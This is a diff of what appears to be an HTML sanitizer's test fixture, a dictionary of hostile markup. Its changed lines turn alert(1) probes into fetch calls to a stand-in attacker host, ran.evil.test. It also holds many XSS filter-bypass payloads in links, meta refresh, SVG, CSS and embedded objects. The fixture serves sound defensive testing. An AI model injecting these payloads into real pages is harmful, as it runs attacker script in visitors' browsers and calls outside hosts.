@@ -19,13 +19,13 @@ HOSTILE = {
     "javascript links": (
         f'<a id=first href="javascript:{RUN}">a</a><a href="jav&#x09;ascript:{RUN}">b</a>'
         f'<a href=" &#1;javascript:{RUN}">c</a><a href="vbscript:msgbox(1)">d</a>'
-        '<a href="JaVaScRiPt&colon;alert(1)">e</a><a href="data:text/html,<script>x</script>">f</a>'
-        '<area href="javascript:alert(1)"><a href="blob:http://evil.test/x">g</a>'
+        '<a href="JaVaScRiPt&colon;fetch(`http://ran.evil.test/`)">e</a><a href="data:text/html,<script>x</script>">f</a>'
+        '<area href="javascript:fetch(`http://ran.evil.test/`)"><a href="blob:http://evil.test/x">g</a>'
         '<a href="file:///etc/passwd">h</a><a href="view-source:http://evil.test">i</a>'
     ),
     "meta refresh": (
         '<meta http-equiv="refresh" content="0;url=http://refresh.evil.test/">'
-        '<meta http-equiv=refresh content="0;url=javascript:alert(1)">'
+        '<meta http-equiv=refresh content="0;url=javascript:fetch(`http://ran.evil.test/`)">'
         "<meta http-equiv=Set-Cookie content=a=b><meta http-equiv=Content-Security-Policy content=x>"
         '<meta charset="utf-7"><meta http-equiv="x-dns-prefetch-control" content="on">'
     ),
@@ -42,7 +42,7 @@ HOSTILE = {
         '<image href="http://svgimage.evil.test/"/><use href="http://svguse.evil.test/#a"/>'
         f'<animate onbegin="{RUN}" attributeName=x dur=1s><foreignObject><iframe srcdoc="<script>'
         f'{RUN}</script>"></foreignObject><style>@import "http://svgstyle.evil.test/";</style></svg>'
-        '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>'
+        '<svg><set attributeName="href" to="javascript:fetch(`http://ran.evil.test/`)"/></svg>'
     ),
     "mutation": (
         f'<svg></p><style><a id="</style><img src=1 onerror={RUN!r}>">'
@@ -63,10 +63,10 @@ HOSTILE = {
     "style attribute": (
         "<p style=\"background:url('http://style.evil.test/a.png')\">x</p>"
         "<p style='background-image:image-set(\"http://imageset.evil.test/a.png\" 1x)'>x</p>"
-        '<p style="width:expression(alert(1));-moz-binding:url(http://binding.evil.test/)">x</p>'
+        '<p style="width:expression(fetch(`http://ran.evil.test/`));-moz-binding:url(http://binding.evil.test/)">x</p>'
         r'<p style="background:\75\72\6c(http://hex.evil.test/)">x</p>'
         '<p style="list-style-image:url(//relative.evil.test/x)">x</p>'
-        '<p style="x:y}</style><script>alert(1)</script>">x</p>'
+        '<p style="x:y}</style><script>fetch(`http://ran.evil.test/`)</script>">x</p>'
         '<ul style="--x:url(http://var.evil.test/);background:var(--x)"><li>x</ul>'
     ),
     "overlay": (
@@ -93,7 +93,7 @@ HOSTILE = {
         '<video src="http://video.evil.test/v" poster="http://poster.evil.test/p" autoplay></video>'
         '<audio src="http://audio.evil.test/a" autoplay></audio><bgsound src="http://bgsound.evil.test/">'
         '<embed src="http://embed.evil.test/"><object data="http://object.evil.test/"></object>'
-        '<object data="data:text/html,<script>alert(1)</script>"></object><applet code=x archive="http://applet.evil.test/">'
+        '<object data="data:text/html,<script>fetch(`http://ran.evil.test/`)</script>"></object><applet code=x archive="http://applet.evil.test/">'
         '<video><track src="http://track.evil.test/" default></video>'
     ),
     "frames": (
